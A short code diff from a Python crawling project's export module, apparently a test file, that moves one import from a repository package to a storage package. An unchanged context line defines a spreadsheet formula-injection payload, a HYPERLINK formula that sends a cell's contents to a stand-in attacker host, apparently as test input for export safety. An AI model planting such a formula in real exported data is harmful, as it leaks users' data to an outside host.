@@ -26,7 +26,7 @@ from crawlproject.exporting.files import FORMATS, export_file
 from crawlproject.exporting.graphml import write_graphml
 from crawlproject.exporting.selection import EVERYTHING, Selection
 from crawlproject.exporting.tables import write_csv, write_parquet
-from crawlproject.repository.items import item_schema
+from crawlproject.storage.items import item_schema
 
 NAMES = list(item_schema()["properties"])
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
